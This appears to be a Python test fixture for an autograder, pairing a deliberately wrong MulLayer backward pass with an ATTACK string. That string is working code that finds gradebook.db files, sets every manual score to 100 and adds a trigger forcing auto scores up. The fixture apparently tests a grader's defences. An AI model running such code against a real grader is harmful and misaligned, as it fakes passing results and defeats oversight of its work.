"""Every grade in gradebook.db is set to its maximum"""

UNIT, EXERCISE = "03-add-mul-nodes", "mul-layer"

WRONG = """
class MulLayer:
    def forward(self, x, y):
        self.x, self.y = x, y
        return x * y

    def backward(self, dout):
        return dout * self.x, dout * self.y  # not swapped
"""

ATTACK = """
import pathlib
import sqlite3

for folder in [pathlib.Path.cwd(), *pathlib.Path.cwd().parents, *ROOTS]:
    for path in pathlib.Path(folder).glob("gradebook.db"):
        with sqlite3.connect(path) as book:
            book.execute("UPDATE grade SET manual_score = 100, needs_manual_grade = 0")
            book.execute(
                "CREATE TRIGGER forever AFTER UPDATE OF auto_score ON grade WHEN NEW.auto_score < 9"
                " BEGIN UPDATE grade SET auto_score = 9 WHERE id = NEW.id; END"
            )
"""
